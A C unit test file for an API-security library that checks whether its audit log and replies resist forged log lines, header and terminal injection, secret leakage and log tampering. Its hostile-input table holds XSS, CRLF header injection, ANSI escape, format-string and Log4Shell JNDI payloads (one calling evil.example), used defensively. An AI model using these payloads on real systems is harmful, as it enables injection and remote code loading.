/* SPDX-License-Identifier: Apache-2.0
 *
 * attack_log.c: attacks on what is written down and replied: texts of a token or a request that would forge lines, members,
 * terminal commands or markup; secrets that would end up in a log; records that cannot be written.
 */
#include "support/unit.h"
#include "support/script.h"
#include "support/service.h"

#include "json/json.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static struct service service;

static size_t count_lines(struct text text)
{
    size_t num = 0;
    for (size_t i = 0; i < text.len; i++) num += text.at[i] == '\n';
    return num;
}

/* is_plain: printable ASCII and nothing that markup or a terminal would act on. */
static bool is_plain(struct text line)
{
    for (size_t i = 0; i < line.len; i++)
        if (line.at[i] < 0x20 || line.at[i] > 0x7e || line.at[i] == '<' || line.at[i] == '>' || line.at[i] == '&') return false;
    return true;
}

/* one_record: what was logged since an offset is exactly one line, strict JSON, plain. */
static struct json *one_record(size_t since, const char *what)
{
    const struct text all = {service.lines.bytes + since, service.lines.len - since};
    if (count_lines(all) != 1 || all.at[all.len - 1] != '\n') fail_msg("%s: %zu lines", what, count_lines(all));
    const struct text line = {all.at, all.len - 1};
    if (!is_plain(line)) fail_msg("%s: not plain: %.*s", what, (int)line.len, line.at);
    struct json *document = NULL;
    const apisec_json_limits limits = {.max_members = 256, .max_bytes = 65536};
    if (json_parse_object(line, &limits, &document, NULL) != APISEC_OK) fail_msg("%s: %.*s", what, (int)line.len, line.at);
    return document;
}

static void expect_text(const struct json *record, const char *outer, const char *inner, const char *name, const char *expected)
{
    struct text found;
    const struct json *object = json_member(record, outer);
    if (inner != NULL) object = json_member(object, inner);
    if (json_get_text(object, name, &found) != JSON_OK) fail_msg("%s.%s is missing", outer, name);
    if (!text_is(found, expected)) fail_msg("%s.%s is %s", outer, name, found.at);
}

static void expect_number(const struct json *record, const char *name, int64_t expected)
{
    int64_t found = -1;
    assert_int_equal(json_get_int64(record, name, &found), JSON_OK);
    assert_int_equal(found, expected);
}

/* ---- hostile texts ---- */

static const struct {
    const char *json, *means;
} hostile[] = {
    {"\"alice\\n{\\\"action_id\\\":1}\"", "alice\n{\"action_id\":1}"},
    {"\"alice\\r\\nSet-Cookie: a=b\"", "alice\r\nSet-Cookie: a=b"},
    {"\"a\\\",\\\"action_id\\\":1,\\\"x\\\":\\\"\"", "a\",\"action_id\":1,\"x\":\""},
    {"\"\\\\\\\"\"", "\\\""},
    {"\"\\u001b[2J\\u001b]0;owned\\u0007\"", "\x1b[2J\x1b]0;owned\x07"},
    {"\"</script><script>alert(1)</script>\"", "</script><script>alert(1)</script>"},
    {"\"a&b<c>d'e\"", "a&b<c>d'e"},
    {"\"%n%s%x%d\"", "%n%s%x%d"},
    {"\"\\u2028\\u2029\\u0085\"", "\xe2\x80\xa8\xe2\x80\xa9\xc2\x85"},
    {"\"\\u202egnp.exe\"", "\xe2\x80\xaegnp.exe"},
    {"\"\\ud83d\\ude00\"", "\xf0\x9f\x98\x80"},
    {"\"\\u007f\\u009b31m\"", "\x7f\xc2\x9b" "31m"},
    {"\"${jndi:ldap://evil.example/a}\"", "${jndi:ldap://evil.example/a}"},
    {"\"alice\"", "alice"},
};

static void test_hostile_claims(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
        char act[512], aud[512];
        snprintf(act, sizeof act, "{\"sub\":%s}", hostile[i].json);
        snprintf(aud, sizeof aud, "[\"orders\",%s]", hostile[i].json);
        const struct forge_change change[] = {{"sub", hostile[i].json},   {"jti", hostile[i].json}, {"client_id", hostile[i].json},
                                              {"scope", hostile[i].json}, {"txn", hostile[i].json}, {"act", act},
                                              {"aud", aud},               {NULL, NULL}};
        const size_t since = service.lines.len;
        char *token = forge_token(change, FORGE_SAME, forge_signer("ES256", 0));
        apisec_decision *decision = service_decide(&service, token);
        assert_int_equal(apisec_decision_require_claim(decision, "sub", "mallory"), APISEC_E_CONDITION);
        assert_int_equal(apisec_decision_commit(decision, NULL), APISEC_E_CONDITION);
        struct json *record = one_record(since, hostile[i].json);
        expect_text(record, "actor", "user", "uid", hostile[i].means);
        expect_text(record, "actor", NULL, "app_uid", hostile[i].means);
        expect_text(record, "api", "token", "uid", hostile[i].means);
        expect_text(record, "metadata", NULL, "correlation_uid", hostile[i].means);
        expect_number(record, "action_id", 2);
        json_free(record);
        assert_true(is_plain(text_of(apisec_decision_explanation(decision))));
        apisec_decision_free(decision);
        free(token);
    }
}

static void test_hostile_requests(void **state)
{
    (void)state;
    const char *honest = service_token(&service, FORGE_SAME);
    for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
        const char *text = hostile[i].means;
        const size_t since = service.lines.len;
        apisec_decision *decision = NULL;
        apisec_call *call = service_call(honest);
        apisec_call_set_method(call, text, strlen(text) > 32 ? 32 : strlen(text));
        apisec_call_set_target(call, text, strlen(text));
        apisec_call_set_peer_address(call, text);
        apisec_call_add_header(call, "traceparent", 11, text, strlen(text));
        apisec_call_add_header(call, "X-Forwarded-For", 15, text, strlen(text));
        apisec_authenticate(service.verifier, service.audit, call, &decision, NULL);
        apisec_decision_commit(decision, NULL);
        json_free(one_record(since, hostile[i].json));
        for (size_t k = 0; k < apisec_decision_num_headers(decision); k++) {
            const char *value = apisec_decision_header_value(decision, k);
            assert_null(strpbrk(value, "\r\n"));
        }
        apisec_decision_free(decision);
        apisec_call_free(call);
    }
}

static void test_hostile_reasons(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
        const size_t since = service.lines.len;
        apisec_decision *decision = service_decide(&service, service_token(&service, FORGE_SAME));
        assert_int_equal(apisec_decision_deny(decision, APISEC_E_DENIED, hostile[i].means), APISEC_E_DENIED);
        assert_int_equal(apisec_decision_commit(decision, NULL), APISEC_E_DENIED);
        json_free(one_record(since, hostile[i].json));
        assert_true(text_is_printable(text_of(apisec_decision_reason(decision))));
        apisec_decision_free(decision);
    }
}

static void test_hostile_challenges(void **state)
{
    (void)state;
    struct service named;
    service_begin_named(&named, "a\"b\\c", "https://api.example/meta");
    apisec_decision *decision = service_decide(&named, NULL);
    apisec_decision_commit(decision, NULL);
    const char *value = apisec_decision_header_value(decision, 0);
    assert_string_equal(value, "Bearer realm=\"a\\\"b\\\\c\", resource_metadata=\"https://api.example/meta\"");
    apisec_decision_free(decision);
    service_end(&named);
}

/* ---- secrets ---- */

#define CANARY "5ecretCanary"

/* expect_none looks for the canary and for any piece of the token in an output. */
static void expect_none(const char *output, size_t len, const char *token, const char *where)
{
    const struct text text = {output, len};
    for (size_t i = 0; i + sizeof CANARY - 1 <= text.len; i++)
        if (memcmp(text.at + i, CANARY, sizeof CANARY - 1) == 0) fail_msg("a secret in %s: %.*s", where, (int)len, output);
    if (token == NULL || strlen(token) < 16) return;
    for (size_t at = 0; at + 16 <= strlen(token); at++)
        for (size_t i = 0; i + 16 <= text.len; i++)
            if (memcmp(text.at + i, token + at, 16) == 0) fail_msg("the token in %s: %.*s", where, (int)len, output);
}

static void look_everywhere(apisec_decision *decision, const apisec_error *err, const char *token, size_t since)
{
    expect_none(service.lines.bytes + since, service.lines.len - since, token, "the log");
    expect_none(err->text, strlen(err->text), token, "the sentence");
    expect_none(apisec_decision_reason(decision), strlen(apisec_decision_reason(decision)), token, "the reason");
    const char *explanation = apisec_decision_explanation(decision);
    expect_none(explanation, strlen(explanation), token, "the explanation");
    for (size_t k = 0; k < apisec_decision_num_headers(decision); k++) {
        const char *value = apisec_decision_header_value(decision, k);
        expect_none(value, strlen(value), token, "a header of the reply");
    }
}

/* Tokens that fail at every check there is, and one that passes: wherever it stops, no output holds a piece of it. */
static void test_no_token_in_any_output(void **state)
{
    (void)state;
    static const struct forge_change claims[][2] = {
        {{NULL, NULL}}, {{"iss", "\"" CANARY "\""}}, {{"aud", "\"" CANARY "\""}}, {{"exp", "1"}}, {{"exp", "\"" CANARY "\""}},
        {{"nbf", "1760000000"}}, {{"iat", "1"}}, {{"jti", NULL}}, {{"secret", "\"" CANARY "\""}},
        {{"cnf", "{\"jkt\":\"" CANARY "\"}"}}, {{"act", "\"" CANARY "\""}}, {{"email", "\"" CANARY "@example.com\""}},
    };
    static const struct forge_change headers[][2] = {
        {{NULL, NULL}}, {{"typ", "\"" CANARY "\""}}, {{"alg", "\"" CANARY "\""}}, {{"kid", "\"" CANARY "\""}},
        {{"crit", "[\"" CANARY "\"]"}}, {{"jku", "\"https://" CANARY ".example/\""}},
    };
    for (size_t i = 0; i < sizeof claims / sizeof claims[0]; i++) {
        for (size_t k = 0; k < sizeof headers / sizeof headers[0]; k++) {
            apisec_error err;
            const size_t since = service.lines.len;
            char *token = forge_token(claims[i], headers[k], forge_signer("ES256", 0));
            apisec_decision *decision = service_decide(&service, token);
            apisec_decision_require_scope(decision, "orders:read");
            apisec_decision_commit(decision, &err);
            look_everywhere(decision, &err, token, since);
            apisec_decision_free(decision);
            free(token);
        }
    }
}

static void test_no_header_or_query_in_any_output(void **state)
{
    (void)state;
    static const char *const values[] = {"Basic " CANARY, "Bearer " CANARY, "Bearer a." CANARY ".b", "DPoP " CANARY, CANARY,
                                         "Bearer " CANARY ", Bearer " CANARY, "Bearer " CANARY "\n"};
    static const char target[] = "/orders?key=" CANARY "&access_token=" CANARY;
    for (size_t i = 0; i < sizeof values / sizeof values[0]; i++) {
        apisec_error err;
        const size_t since = service.lines.len;
        apisec_decision *decision = NULL;
        apisec_call *call = service_call(NULL);
        apisec_call_set_target(call, target, strlen(target));
        apisec_call_add_header(call, "Authorization", 13, values[i], strlen(values[i]));
        apisec_call_add_header(call, "Cookie", 6, CANARY, strlen(CANARY));
        apisec_call_add_header(call, "X-Api-Key", 9, CANARY, strlen(CANARY));
        apisec_authenticate(service.verifier, service.audit, call, &decision, &err);
        look_everywhere(decision, &err, NULL, since);
        apisec_decision_commit(decision, &err);
        look_everywhere(decision, &err, NULL, since);
        apisec_decision_free(decision);
        apisec_call_free(call);
    }
}

/* A key that cannot be used is named by what is wrong with it, never by its bytes. */
static void test_no_key_in_any_sentence(void **state)
{
    (void)state;
    static const char *const sets[] = {
        "{\"keys\":[{\"kty\":\"oct\",\"k\":\"" CANARY "\"}]}",
        "{\"keys\":[{\"kty\":\"oct\",\"k\":\"" CANARY "!\"}]}",
        "{\"keys\":[{\"kty\":\"RSA\",\"n\":\"" CANARY "\",\"e\":\"AQAB\",\"d\":\"" CANARY "\"}]}",
        "{\"keys\":[{\"kty\":\"" CANARY "\"}]}",
        "{\"keys\":[{\"kty\":\"oct\",\"k\":\"" CANARY "\",\"k\":\"" CANARY "\"}]}",
        "{\"keys\":\"" CANARY "\"}",
        CANARY,
    };
    for (size_t i = 0; i < sizeof sets / sizeof sets[0]; i++) {
        apisec_error err;
        apisec_verifier *verifier = NULL;
        apisec_signer *signer = NULL;
        apisec_trust *trust = apisec_trust_new();
        apisec_issuer *issuer = apisec_trust_add_issuer(trust, FORGE_ISSUER);
        apisec_issuer_add_audience(issuer, FORGE_AUDIENCE);
        apisec_issuer_allow_algorithm(issuer, "HS256");
        apisec_issuer_set_jwks(issuer, sets[i], strlen(sets[i]));
        assert_int_equal(apisec_verifier_new(trust, NULL, &verifier, &err), APISEC_E_CONFIG);
        expect_none(err.text, strlen(err.text), NULL, "the sentence about a key set");
        apisec_trust_free(trust);
        assert_int_not_equal(apisec_signer_new(sets[i], strlen(sets[i]), &signer, &err), APISEC_OK);
        expect_none(err.text, strlen(err.text), NULL, "the sentence about a key");
    }
}

/* ---- a log that cannot be written ---- */

static void test_no_record_no_permission(void **state)
{
    (void)state;
    struct service strict, lenient;
    service_begin(&strict, APISEC_AUDIT_STRICT);
    service_begin(&lenient, APISEC_AUDIT_LENIENT);
    strict.log_refuses = lenient.log_refuses = true;
    apisec_decision *decision = service_decide(&strict, service_token(&strict, FORGE_SAME));
    assert_int_equal(apisec_decision_commit(decision, NULL), APISEC_E_AUDIT);
    assert_int_equal(apisec_decision_http_status(decision), 503);
    apisec_decision_free(decision);
    decision = service_decide(&lenient, service_token(&lenient, FORGE_SAME));
    assert_int_equal(apisec_decision_commit(decision, NULL), APISEC_OK); /* the twin: the operator has chosen otherwise */
    apisec_decision_free(decision);
    assert_int_equal(apisec_audit_num_lost(strict.audit), 1);
    assert_int_equal(apisec_audit_num_lost(lenient.audit), 1);
    strict.log_refuses = lenient.log_refuses = false;
    service_end(&strict);
    service_end(&lenient);
}

/* ---- an edited log ---- */

static apisec_status check_lines(const char *lines)
{
    apisec_chain *chain = apisec_chain_new();
    apisec_status status = APISEC_OK;
    while (*lines != '\0') {
        const size_t len = strcspn(lines, "\n");
        status = apisec_chain_next(chain, lines, len, NULL);
        lines += len + (lines[len] == '\n');
    }
    apisec_chain_free(chain);
    return status;
}

static void test_an_edited_log(void **state)
{
    (void)state;
    struct service own;
    service_begin(&own, APISEC_AUDIT_STRICT);
    for (int i = 0; i < 3; i++) {
        apisec_decision *decision = service_decide(&own, service_token(&own, FORGE_SAME));
        apisec_decision_commit(decision, NULL);
        apisec_decision_free(decision);
    }
    char *whole = text_copy((struct text){own.lines.bytes, own.lines.len});
    assert_int_equal(check_lines(whole), APISEC_OK);
    char *changed = forge_replace(whole, "\"action_id\":1", "\"action_id\":2");
    assert_int_equal(check_lines(changed), APISEC_E_AUDIT);
    free(changed);
    changed = forge_replace(whole, "alice", "bobby");
    assert_int_equal(check_lines(changed), APISEC_E_AUDIT);
    free(changed);
    const char *second = strchr(whole, '\n') + 1, *third = strchr(second, '\n') + 1;
    char text[16384];
    snprintf(text, sizeof text, "%.*s%s", (int)(second - whole), whole, third);
    assert_int_equal(check_lines(text), APISEC_E_AUDIT); /* the second is gone */
    snprintf(text, sizeof text, "%.*s%s%.*s", (int)(second - whole), whole, third, (int)(third - second), second);
    assert_int_equal(check_lines(text), APISEC_E_AUDIT); /* the last two exchanged */
    snprintf(text, sizeof text, "%.*s%s", (int)(third - whole), whole, second);
    assert_int_equal(check_lines(text), APISEC_E_AUDIT); /* the second twice */
    free(whole);
    service_end(&own);
}

static int begin(void **state)
{
    (void)state;
    service_begin(&service, APISEC_AUDIT_STRICT);
    return 0;
}

static int end(void **state)
{
    (void)state;
    service_end(&service);
    forge_end();
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_hostile_claims),
        cmocka_unit_test(test_hostile_requests),
        cmocka_unit_test(test_hostile_reasons),
        cmocka_unit_test(test_hostile_challenges),
        cmocka_unit_test(test_no_token_in_any_output),
        cmocka_unit_test(test_no_header_or_query_in_any_output),
        cmocka_unit_test(test_no_key_in_any_sentence),
        cmocka_unit_test(test_no_record_no_permission),
        cmocka_unit_test(test_an_edited_log),
    };
    return cmocka_run_group_tests_name("attack_log", tests, begin, end);
}
